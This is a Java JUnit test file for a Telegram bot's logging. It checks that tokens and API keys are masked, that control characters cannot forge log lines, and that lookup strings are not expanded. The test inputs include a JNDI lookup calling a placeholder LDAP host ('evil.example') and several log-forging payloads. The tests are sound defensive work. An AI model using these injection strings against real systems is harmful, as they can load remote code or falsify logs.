package rapporteur;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.joran.JoranConfigurator;
import ch.qos.logback.core.joran.spi.JoranException;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Optional;
import java.util.logging.Level;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;
import org.slf4j.bridge.SLF4JBridgeHandler;
import rapporteur.settings.Settings;

/// What the log holds and what it never does, with the program's own configuration in place of the tests' quiet one.
class LogsTest {
    private static final String TOKEN = "123456789:AAE-canary_OF_A_TOKEN";
    private static final String KEY = "sk-canary+of/a=key";

    private static final Logger LOG = LoggerFactory.getLogger("rapporteur.chat.Desk");
    private static final Logger LIBRARY = LoggerFactory.getLogger("okhttp3.OkHttpClient");

    @TempDir
    private Path folder;

    private final ByteArrayOutputStream screen = new ByteArrayOutputStream();
    private PrintStream before;
    private Path file;

    @BeforeEach
    void configure_as_the_program_does() {
        before = System.err;
        System.setErr(new PrintStream(screen, true, StandardCharsets.UTF_8));
        file = folder.resolve("rapporteur.log");
        var context = (LoggerContext) LoggerFactory.getILoggerFactory();
        context.reset();
        LogConfigurator.setUp(context);
    }

    @AfterEach
    void configure_as_tests_do() throws JoranException {
        SLF4JBridgeHandler.uninstall();
        java.util.logging.Logger.getLogger("").setLevel(Level.INFO);
        BlottingEncoder.blotOut(List.of());
        configureQuietly();
        System.setErr(before);
    }

    private static void configureQuietly() throws JoranException {
        var context = (LoggerContext) LoggerFactory.getILoggerFactory();
        context.reset();
        var configurator = new JoranConfigurator();
        configurator.setContext(context);
        configurator.doConfigure(Objects.requireNonNull(Logs.class.getResource("/logback-test.xml")));
    }

    private void set(String... assignments) {
        Logs.set(Settings.read(
                Optional.empty(),
                Map.of("RAPPORTEUR_TELEGRAM_BOT_TOKEN", TOKEN, "RAPPORTEUR_MODEL_API_KEY", KEY),
                Stream.concat(Stream.of("log.file=" + file), Stream.of(assignments))
                        .toList()));
    }

    /// Returns what stands on the screen and in the file.
    private List<String> logs() throws IOException {
        return List.of(screen.toString(StandardCharsets.UTF_8), Files.readString(file));
    }

    // ---- secrets

    @ParameterizedTest
    @ValueSource(
            strings = {
                TOKEN,
                "AAE-canary_OF_A_TOKEN",
                "https://api.telegram.org/bot123456789:AAE-canary_OF_A_TOKEN/getMe",
                "https://api.telegram.org/bot123456789%3AAAE-canary_OF_A_TOKEN/getMe",
                "https://api.telegram.org/bot123456789%3aAAE-canary_OF_A_TOKEN/getMe",
                "Authorization: Bearer sk-canary+of/a=key",
                "https://example.org/?key=sk-canary%2Bof%2Fa%3Dkey&x=y",
                "https://example.org/?key=sk-canary%2bof%2fa%3dkey&x=y",
                "{\"key\":\"sk-canary+of/a=key\"}"
            })
    void a_secret_is_blotted_out_wherever_it_stands(String words) throws IOException {
        set("log.level=trace");
        var suppressed = new IllegalStateException("suppressed " + words);
        var cause = new IOException("cause " + words, new IOException("deeper " + words));
        cause.addSuppressed(suppressed);

        LOG.trace("message {}", words);
        LOG.info(words);
        LIBRARY.trace("library {}", words);
        LOG.error("failed " + words, new IllegalStateException("thrown " + words, cause));

        assertThat(logs())
                .allSatisfy(log -> assertThat(log)
                        .contains("message ", "library ", "thrown ", "cause ", "deeper ", "suppressed ", "███")
                        .doesNotContain("canary"));
    }

    @Test
    void what_libraries_log_in_another_way_is_blotted_out_too() throws IOException {
        SLF4JBridgeHandler.removeHandlersForRootLogger();
        SLF4JBridgeHandler.install();
        set("log.level=trace");

        java.util.logging.Logger.getLogger("sun.net.www.http").finest("GET /bot" + TOKEN + "/getUpdates");

        assertThat(logs()).allSatisfy(log -> assertThat(log).contains("GET /bot███/getUpdates"));
    }

    @Test
    void a_bot_that_telegram_refuses_leaves_no_secret_behind() throws IOException {
        SLF4JBridgeHandler.removeHandlersForRootLogger();
        SLF4JBridgeHandler.install();
        var telegram = CommandLineTest.refusing();

        var call = Shell.call(
                InputStream.nullInputStream(),
                new ByteArrayOutputStream(),
                Map.of("RAPPORTEUR_TELEGRAM_BOT_TOKEN", TOKEN),
                "bot",
                "--home",
                folder.resolve("home").toString(),
                "--set",
                "telegram.api-url=http://localhost:" + telegram.getAddress().getPort(),
                "--set",
                "log.level=trace",
                "--set",
                "log.file=" + file);
        telegram.stop(0);

        assertThat(call.code()).isEqualTo(1);
        assertThat(call.err())
                .contains("Telegram does not know the bot's token")
                .doesNotContain("canary");
        assertThat(logs()).allSatisfy(log -> assertThat(log).isNotBlank().doesNotContain("canary"));
    }

    @Test
    void where_nothing_is_secret_nothing_is_blotted_out() throws IOException {
        Logs.set(Settings.read(Optional.empty(), Map.of(), List.of("log.file=" + file)));

        LOG.info("indexed articles=5 token=none");

        assertThat(logs()).allSatisfy(log -> assertThat(log).endsWith(" INFO  Desk indexed articles=5 token=none\n"));
    }

    // ---- one event, one line

    /// How a line of ours begins, on the screen and in the file.
    private static final String BEGINNING =
            "(?:\\d{4}-\\d\\d-\\d\\dT)?\\d\\d:\\d\\d:\\d\\d\\.\\d{3}\\S* [A-Z]+ +Desk .*";

    private static final String FORGED = "12:00:00.000 INFO  Desk paired with the first admin";

    @ParameterizedTest
    @ValueSource(
            strings = {
                "\n",
                "\r",
                "\r\n",
                "\n\n\n",
                "\u0085",
                "\u2028",
                "\u2029",
                "\u000B",
                "\f",
                "\u001B[2K\u001B[1A",
                "\u009B2K",
                "\b\b\b\b",
                "\u0000"
            })
    void no_words_can_forge_a_line(String between) throws IOException {
        set();

        LOG.info("skipped title=5月8日{}{}", between, FORGED);
        LOG.warn("skipped", new IOException("5月8日" + between + FORGED, new IOException(between + FORGED)));

        assertThat(logs()).allSatisfy(log -> {
            assertThat(log.split("\\R|[\\u000B\\f\\u0085\\u2028\\u2029]"))
                    .filteredOn(line -> line.matches(BEGINNING))
                    .hasSize(2)
                    .allMatch(line -> line.contains("Desk skipped"));
            assertThat(log.replaceAll("[\\n\\t]", "")).doesNotContainPattern("\\p{Cc}");
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://evil.example/a}",
                "${java:version}",
                "${HOME}",
                "%X{user} %d %n",
                "{} {}",
                "$1 \\1"
            })
    void no_words_are_expanded(String words) throws IOException {
        set();

        LOG.info("skipped title={}", words);

        assertThat(logs()).allSatisfy(log -> assertThat(log).endsWith("Desk skipped title=" + words + "\n"));
    }

    // ---- levels

    @ParameterizedTest
    @CsvSource({
        "error, false, false, false, false",
        "warn,  true,  false, false, false",
        "info,  true,  true,  false, false",
        "debug, true,  true,  true,  false",
        "trace, true,  true,  true,  true",
        "INFO,  true,  true,  false, false",
    })
    void lines_are_written_from_the_level_that_is_set(
            String level, boolean warn, boolean info, boolean debug, boolean trace) throws IOException {
        set("log.level=" + level);

        LOG.error("an error");
        LOG.warn("a warning");
        LOG.info("a remark");
        LOG.debug("a detail");
        LOG.trace("a trifle");

        assertThat(logs()).allSatisfy(log -> {
            assertThat(log).contains("an error");
            assertThat(log.contains("a warning")).isEqualTo(warn);
            assertThat(log.contains("a remark")).isEqualTo(info);
            assertThat(log.contains("a detail")).isEqualTo(debug);
            assertThat(log.contains("a trifle")).isEqualTo(trace);
        });
    }

    @Test
    void libraries_are_quiet_where_the_program_says_what_it_does() throws IOException {
        set();

        LIBRARY.info("made by us");
        LIBRARY.warn("look here");

        assertThat(logs())
                .allSatisfy(log -> assertThat(log).contains("look here").doesNotContain("made by us"));
    }

    // ---- the file

    @Test
    void lines_are_written_behind_those_that_are_there() throws IOException {
        Files.writeString(file, "from the last start\n");
        set();

        LOG.info("answered 会议 update=7");

        assertThat(Files.readString(file))
                .startsWith("from the last start\n")
                .containsPattern(
                        "\\n\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}\\S+ INFO  Desk answered 会议 update=7\\n$");
    }
}
